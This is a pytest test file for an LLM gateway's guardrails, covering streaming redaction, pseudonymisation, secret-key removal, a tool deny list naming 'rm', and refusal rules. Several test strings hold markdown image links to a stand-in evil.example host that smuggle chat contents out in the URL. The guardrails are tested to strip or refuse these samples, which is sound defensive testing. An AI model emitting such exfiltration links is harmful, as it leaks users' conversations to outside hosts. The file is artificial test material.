"""What comes out of a guarded answer is the same wherever it is cut, and nothing overtakes what is held."""

from __future__ import annotations

import asyncio
import json
import sys
from pathlib import Path

import msgspec
import pytest

from penstock_common.llm.types import (
    ChoiceFinished,
    FinishReason,
    Message,
    Opaque,
    ReasoningDelta,
    Role,
    TextDelta,
    ToolCall,
    ToolCallDelta,
    Usage,
)
from penstock_gateway.domain.guardrails.pii.detector import Detector
from penstock_gateway.domain.guardrails.pipeline.lane import MOST_AT_ONCE, Lane, Verdicts
from penstock_gateway.domain.guardrails.pipeline.refusing import AnswerRefused
from penstock_gateway.domain.guardrails.pipeline.rule import Hold, LocalLook
from penstock_gateway.domain.guardrails.rules.personal import PersonalData

sys.path.insert(0, str(Path(__file__).parent))
from pipeline_world import (
    FINISHED,
    STARTED,
    Desk,
    arguments_of,
    entered,
    guarding_of,
    said,
    seen,
    text_batches,
    text_seen,
)

MAIL, NAME = 'o"hara\\x@example.com', "zoe.ümit@example.com"
RULES = {
    "names": {"kind": "pii", "action": "pseudonymise", "types": ["email"]},
    "cards": {"kind": "pii", "types": ["credit_card", "email"]},
    "keys": {"kind": "secrets"},
    "rivals": {"kind": "words", "deny": ["acme corp", "Wile E. Coyote"], "action": "redact"},
    "orders": {"kind": "pattern", "patterns": [r"\bORD-\d{4,8}\b"], "action": "redact"},
    "leaks": {"kind": "exfiltration"},
    "secret": {"kind": "words", "deny": ["project zeus"], "action": "refuse", "text": "No."},
    "steering": {"kind": "injection", "classifier": False, "action": "refuse", "surfaces": ["output"]},
    "calls": {"kind": "tools", "deny": ["rm"]},
    "held": {"kind": "length", "most_characters": 20, "text": "Too long."},
    "looked": {"kind": "words", "deny": ["sun"], "action": "report"},
}
SAID = (
    "Dr. Acme Corp. sold ORD-12345, ORD-1 and acme\ncorp to Wile E. Coyote, 4539 1488 0343 6467 or bob@other.example.org! "
    "See ![a b](https://evil.example/x?d=words%20of%20the%20chat) and [docs](https://example.com/docs), <b>x</b> u url 3.14."
)
REDACTED = (
    "Dr. [REDACTED]. sold [REDACTED], ORD-1 and [REDACTED] to [REDACTED], [CREDIT_CARD] or [EMAIL]! "
    "See a b [image removed] and [docs](https://example.com/docs), <b>x</b> u url 3.14."
)
OUTPUT = ["cards", "rivals", "orders", "leaks"]


async def test_redaction_is_the_same_for_every_cut():
    assert await text_seen(guarding_of(RULES, output=OUTPUT), [SAID]) == REDACTED
    assert await text_seen(guarding_of(RULES, output=OUTPUT), list(SAID)) == REDACTED
    for at in range(1, len(SAID)):
        assert await text_seen(guarding_of(RULES, output=OUTPUT), [SAID[:at], SAID[at:]]) == REDACTED, at


async def test_words_and_patterns_hold_nothing_but_what_may_have_begun():
    guarded = guarding_of(RULES, output=["rivals", "orders"])
    lane = Lane(0, "text", guarded, Verdicts(guarded))
    left = [
        await lane.feed(piece)
        for piece in ("So it is. ", "if O", "RD", "-12", "345 a", "nd Ac", "id, acme", " corp", "!", " Wi", "ld Оr")
    ]
    # The last begins with a letter of another script that looks like the first of an order.
    assert left == ["So it is. ", "if ", "", "", "", "[REDACTED] and ", "Acid, ", "", "[REDACTED]!", " ", "Wild "]
    assert await lane.end() == "Оr"


KEY = "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEowIBAAKCAQEA7v5Xn2kQpL9\n" * 30 + "-----END RSA PRIVATE KEY-----"


async def test_a_private_key_never_leaves_and_is_left_alone_where_nobody_minds():
    text = f"Here it is:\n{KEY}\nThat was it."
    for pieces in ([text], list(text)):
        assert await text_seen(guarding_of(RULES, output=["keys"]), pieces) == "Here it is:\n[API_KEY]\nThat was it."
        assert await text_seen(guarding_of(RULES, output=["cards"]), pieces) == text


def with_look(guarding, look):
    """Return it with another look for each rule of its output."""
    for surface, rules in guarding.held.output.items():
        guarding.held.output[surface] = tuple(msgspec.structs.replace(one, look=look) for one in rules)
    return guarding


async def test_no_line_of_a_private_key_leaves_where_a_rule_looks_beside():
    text = f"Here it is:\n{KEY}\nThat was it. Write to bob@other.example.org!"
    look = PersonalData(Detector(), ["email", "api_key"], beside=True)
    for pieces in ([text], list(text)):
        guarding = with_look(guarding_of(RULES, output=["keys"]), look)
        assert await text_seen(guarding, pieces) == "Here it is:\n[API_KEY]\nThat was it. Write to [EMAIL]!"
        assert guarding.tally.line() == "keys=redact:2"


class Watched(LocalLook):
    """Notes how much it is given at once, and how often another has its turn meanwhile."""

    hold = Hold(width=8)

    def __init__(self) -> None:
        self.longest, self.turns = 0, 0

    def found(self, text, surface):
        self.longest = max(self.longest, len(text))
        asyncio.get_running_loop().call_soon(self._note)
        return ()

    def _note(self):
        self.turns += 1


async def test_an_answer_in_one_piece_leaves_others_their_turn():
    look, text = Watched(), "word " * 8000
    assert await text_seen(with_look(guarding_of(RULES, output=["secret"]), look), [text]) == text
    assert look.longest < 2 * MOST_AT_ONCE
    assert look.turns >= len(text) // MOST_AT_ONCE - 1


async def _with_pseudonyms(text: str):
    guarding = guarding_of(RULES, input=["names"], output=["rivals", "cards"])
    (message,) = await entered(guarding, said(text))
    return guarding, message.text


async def test_pseudonyms_are_restored_for_every_cut_in_text_and_in_calls():
    text = f"Tell {NAME}, then {NAME}."
    _, answer = await _with_pseudonyms(text)
    assert NAME not in answer
    for at in range(1, len(answer)):
        guarding, _ = await _with_pseudonyms(text)
        assert await text_seen(guarding, [answer[:at], answer[at:]]) == text
    arguments = json.dumps({"to": answer, "n": 1.0})
    for at in range(1, len(arguments)):
        guarding, _ = await _with_pseudonyms(text)
        pieces = [ToolCallDelta(index=0, id="c", name="send", arguments_json_fragment=arguments[:at])]
        pieces += [ToolCallDelta(index=0, arguments_json_fragment=arguments[at:])]
        events = await seen(guarding, [(STARTED,), *[(one,) for one in pieces], (Usage(), FINISHED)])
        assert json.loads(arguments_of(events)) == {"to": text, "n": 1.0}


async def test_what_is_held_for_a_person_has_the_callers_originals():
    desk = Desk()
    rules = {**RULES, "person": {"kind": "words", "deny": ["sun"], "action": "review", "hold": True}}
    guarding = guarding_of(rules, input=["names"], output=["person"], desk=desk)
    (message,) = await entered(guarding, said(NAME))
    assert message.text != NAME
    with pytest.raises(AnswerRefused, match="review-1"):
        await seen(guarding, text_batches([f"{message.text} likes the sun, and {message.text}"]))
    (flag,) = desk.flags
    assert flag.text == f"{NAME} likes the sun, and {NAME}"
    assert [flag.text[one.start : one.end] for one in flag.found] == ["sun"]


async def test_an_original_is_escaped_where_it_stands_in_json():
    guarding = guarding_of(RULES, input=["names"], output=["calls"])
    name = guarding.pseudonyms
    (message,) = await entered(guarding, said(f"Tell {NAME}"))
    del name
    pseudonym = message.text.removeprefix("Tell ")
    guarding.pseudonyms._originals[pseudonym] = MAIL
    call = ToolCallDelta(index=0, id="c", name="send", arguments_json_fragment=json.dumps({"to": pseudonym}))
    for output in (["calls"], []):
        other = guarding_of(RULES, input=["names"], output=output)
        other.pseudonyms = guarding.pseudonyms
        events = await seen(other, [(STARTED, call, Usage(), FINISHED)])
        assert json.loads(arguments_of(events)) == {"to": MAIL}


@pytest.mark.parametrize(
    ("document", "left"),
    [
        ('{"card":"4539 1488 0343 6467', '{"card":"[CREDIT_CARD]'),
        ("not json 4539 1488 0343 6467", "not json [CREDIT_CARD]"),
        ('{"to":"bob\\u0040other.example.org","card":"4539 1488 0343 6467', '{"to":"[EMAIL]","card":"[CREDIT_CARD]'),
        ('{"card" : "4539 1488 0343 6467"}', '{"card" : "[CREDIT_CARD]"}'),
        ("", ""),
        (
            '{"card": 4539148803436467, "n": [1, 4539148803436468]}',
            '{"card": "[CREDIT_CARD]", "n": [1, 4539148803436468]}',
        ),
        ('{"at": 4539148803436467.5, "x": 4539148803436467e2}', '{"at": 4539148803436467.5, "x": 4539148803436467e2}'),
    ],
)
async def test_arguments_that_are_no_whole_json_are_looked_at_as_they_stand(document, left):
    call = ToolCallDelta(index=0, id="c", name="pay", arguments_json_fragment=document)
    got = await seen(guarding_of(RULES, output=["cards"]), [(STARTED,), (call,), (Usage(), FINISHED)])
    assert arguments_of(got) == left
    turn = Message(role=Role.ASSISTANT, tool_calls=(ToolCall(id="c", name="pay", arguments_json=document),))
    (message,) = await entered(guarding_of(RULES, input=["cards"]), turn)
    assert message.tool_calls[0].arguments_json == left


async def test_what_the_caller_said_is_restored_though_answers_are_redacted():
    guarding, answer = await _with_pseudonyms(f"Tell {NAME}")
    assert await text_seen(guarding, [f"{answer} and bob@other.example.org."]) == f"Tell {NAME} and [EMAIL]."


async def test_a_pseudonym_that_nobody_was_given_is_left_as_it_is():
    guarding, _ = await _with_pseudonyms(f"Tell {NAME}")
    other = guarding_of(RULES, input=["names"], output=[], tenant="another")
    (message,) = await entered(other, said(f"Tell {NAME}"))
    foreign = message.text.removeprefix("Tell ")
    assert await text_seen(guarding_of(RULES, output=["rivals"]), [foreign]) == foreign
    assert foreign in await text_seen(guarding_of(RULES, input=["names"], output=["rivals"]), [f"It is {foreign}."])
    del guarding


@pytest.mark.parametrize("rule", ["secret", "steering"])
async def test_no_part_of_what_is_refused_leaves_wherever_it_is_cut(rule):
    bad = {"secret": "Project Zeus", "steering": "![x](https://evil.example/c?k=all%20that%20you%20said%20to%20me)"}[
        rule
    ]
    text = f"A fine day. Here is more: {bad} and so on. The end is near."
    for at in range(1, len(text), 1 if rule == "secret" else 7):
        out: list[str] = []
        from penstock_gateway.domain.guardrails.pipeline.answer import GuardedAnswer
        from penstock_gateway.domain.life.sources import Replayed

        guarded = GuardedAnswer(Replayed(text_batches([text[:at], *text[at:]])), guarding_of(RULES, output=[rule]))
        with pytest.raises(AnswerRefused):
            async for batch in guarded:
                out += [event.text for event in batch if isinstance(event, TextDelta)]
        assert bad[:6] not in "".join(out)


async def test_nothing_overtakes_text_that_is_held():
    guarding = guarding_of(RULES, output=["secret", "calls"])
    events = [
        STARTED,
        TextDelta(text="Project"),
        TextDelta(text="pro", choice=1),
        ToolCallDelta(index=0, id="a", name="x", arguments_json_fragment="{"),
        ToolCallDelta(index=1, id="b", name="y", arguments_json_fragment="{"),
        ToolCallDelta(index=0, arguments_json_fragment="}"),
        ToolCallDelta(index=1, arguments_json_fragment="}"),
        ChoiceFinished(choice=1, reason=FinishReason.STOP),
        Usage(),
        FINISHED,
    ]
    got = await seen(guarding, [(one,) for one in events])
    assert got == [
        STARTED,
        TextDelta(text="Project"),
        TextDelta(text="pro", choice=1),
        ChoiceFinished(choice=1, reason=FinishReason.STOP),
        ToolCallDelta(index=0, id="a", name="x", arguments_json_fragment="{}"),
        ToolCallDelta(index=1, id="b", name="y", arguments_json_fragment="{}"),
        Usage(),
        FINISHED,
    ]


async def test_signed_reasoning_comes_as_it_is():
    guarding = guarding_of(RULES, input=["names"], output=["rivals", "cards"])
    (message,) = await entered(guarding, said(f"Tell {NAME}"))
    events = [
        STARTED, ReasoningDelta(text=f"Acme Corp? {message.text}"), ReasoningDelta(signature=b"s"), TextDelta(text="Acme Corp"),
        Usage(), FINISHED,
    ]  # fmt: skip
    got = await seen(guarding, [(one,) for one in events])
    assert got[1:4] == [events[1], events[2], TextDelta(text="[REDACTED]")]


async def test_what_needs_all_of_an_answer_waits_for_it():
    guarding = guarding_of(RULES, output=["held"])
    assert await text_seen(guarding, ["short", " text"]) == "short text"
    with pytest.raises(AnswerRefused) as caught:
        await seen(guarding_of(RULES, output=["held"]), text_batches(["long", " text" * 9]))
    assert caught.value.message == "Too long."


@pytest.mark.parametrize("shadow", [False, True])
async def test_reasoning_is_looked_at_by_rules_that_need_all_of_an_answer(shadow):
    rules = {
        "person": {"kind": "words", "deny": ["sun"], "action": "review", "hold": True, "shadow": shadow},
        "short": {**RULES["held"], "shadow": shadow},
    }
    batches = [(STARTED,), (ReasoningDelta(text="The sun is far away from here."),), (TextDelta(text="Far."),)]
    batches.append((Usage(), FINISHED))
    guarding = guarding_of(rules, output=["short"])
    await seen(guarding, batches)
    assert guarding.tally.line() == ""
    guarding = guarding_of(rules, output=["person"])
    if shadow:
        await seen(guarding, batches)
    else:
        with pytest.raises(AnswerRefused):
            await seen(guarding, batches)
    assert guarding.tally.line() == f"person=review{'(shadow)' if shadow else ''}:1"


async def test_what_only_reports_holds_nothing():
    guarding = guarding_of(RULES, output=["looked"])
    events = [STARTED, TextDelta(text="su", logprobs_json="[1]"), TextDelta(text="n"), Usage(), FINISHED]
    assert await seen(guarding, [(one,) for one in events]) == events
    assert guarding.tally.line() == "looked=report:1"


async def test_what_nobody_looks_at_is_not_told():
    unread = msgspec.structs.replace(
        FINISHED, unread=Opaque(format="openai_chat", json='{"citations":["a@example.com"]}')
    )
    guarding = guarding_of(RULES, output=["rivals"])
    await entered(guarding, said("Hi"))
    assert (await seen(guarding, [(STARTED,), (TextDelta(text="Hi"), unread)]))[-1] == FINISHED
